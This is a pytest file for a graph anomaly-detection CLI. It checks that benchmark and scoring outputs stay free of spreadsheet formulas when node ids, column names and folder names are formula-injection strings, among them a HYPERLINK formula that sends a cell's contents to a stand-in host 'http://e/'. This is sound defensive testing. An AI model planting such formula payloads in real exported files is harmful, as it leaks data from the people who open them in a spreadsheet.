"""A user's own graph through the commands: one without edges, whose ids a spreadsheet would run."""

import numpy as np
import pandas as pd
import pytest

from aiec_graph.cli.main import main
from aiec_graph.tables import RUNS

pytestmark = pytest.mark.filterwarnings("ignore::aiec_graph.detect.DetectionWarning")
COUNT = 60
ODD = ['=HYPERLINK("http://e/"&A1)', "+1+1", "@SUM(1)", "-1+1"]


@pytest.fixture(scope="module")
def work(tmp_path_factory):
    folder = tmp_path_factory.mktemp("user") / "=1+1"
    folder.mkdir()
    rng = np.random.default_rng(0)
    y = np.arange(COUNT) % 3 == 0
    nodes = pd.DataFrame(
        {
            "id": [*ODD, *(f"n{i}" for i in range(len(ODD), COUNT))],
            "size": rng.normal(2.0 * y),
            "=kind": rng.choice(["=a", "@b"], COUNT),
            "label": y.astype(int),
        }
    )
    nodes.to_csv(folder / "nodes.csv", index=False)
    (folder / "edges.csv").write_text("source,target\n")
    return folder


def call(*arguments) -> int:
    return main([str(argument) for argument in arguments])


def assert_harmless(folder):
    files = sorted(folder.rglob("*.csv"))
    assert files
    for file in files:
        frame = pd.read_csv(file, dtype=str, keep_default_na=False)
        cells = [*frame.columns, *frame.to_numpy().ravel().tolist()]
        assert [cell for cell in cells if RUNS.match(cell)] == [], file


def test_a_benchmark_without_edges_and_with_formulas_for_ids(work, tmp_path, capsys):
    models = ["--model", "gcn", "sage", "rf_graph", "--act", "relu", "aiec"]
    tiny = ["--seeds", 1, "--epochs", 3, "--hidden", 4, "--save-scores", "--out", tmp_path / "out"]
    assert call("--dataset", work, *models, *tiny) == 0
    assert "there are no edges" in " ".join(capsys.readouterr().err.split())
    runs = pd.read_csv(tmp_path / "out/runs.csv")
    assert len(runs) == 5 and runs["test_ap"].notna().all()
    for file in (tmp_path / "out/scores").glob("*.csv"):
        assert np.isfinite(pd.read_csv(file)["score"]).all()
    assert_harmless(tmp_path / "out")


def test_a_detector_without_edges_and_with_formulas_for_ids(work, tmp_path):
    assert call("fit", work, "--out", tmp_path / "model", "--model", "logistic_graph") == 0
    assert call("score", tmp_path / "model", work, "--out", tmp_path / "list.csv") == 0
    assert len(pd.read_csv(tmp_path / "list.csv")) == COUNT
    assert_harmless(tmp_path)


@pytest.mark.parametrize("value", [3e38, -3e38])
def test_a_value_at_the_end_of_the_numbers_does_not_end_the_scoring(work, tmp_path, value, capsys):
    """The node gets a finite score, or the refusal names it."""
    if not (tmp_path.parent / "model").exists():
        assert call("fit", work, "--out", tmp_path.parent / "model", "--model", "sage") == 0
    nodes = pd.read_csv(work / "nodes.csv")
    nodes.loc[7, "size"] = value
    (tmp_path / "data").mkdir()
    nodes.to_csv(tmp_path / "data/nodes.csv", index=False)
    (tmp_path / "data/edges.csv").write_text("source,target\nn8,n9\n")
    out = tmp_path / "list.csv"
    code = call("score", tmp_path.parent / "model", tmp_path / "data", "--out", out)
    if code == 0:
        assert np.isfinite(pd.read_csv(out)["score"]).all()
    else:
        assert "n7" in capsys.readouterr().err
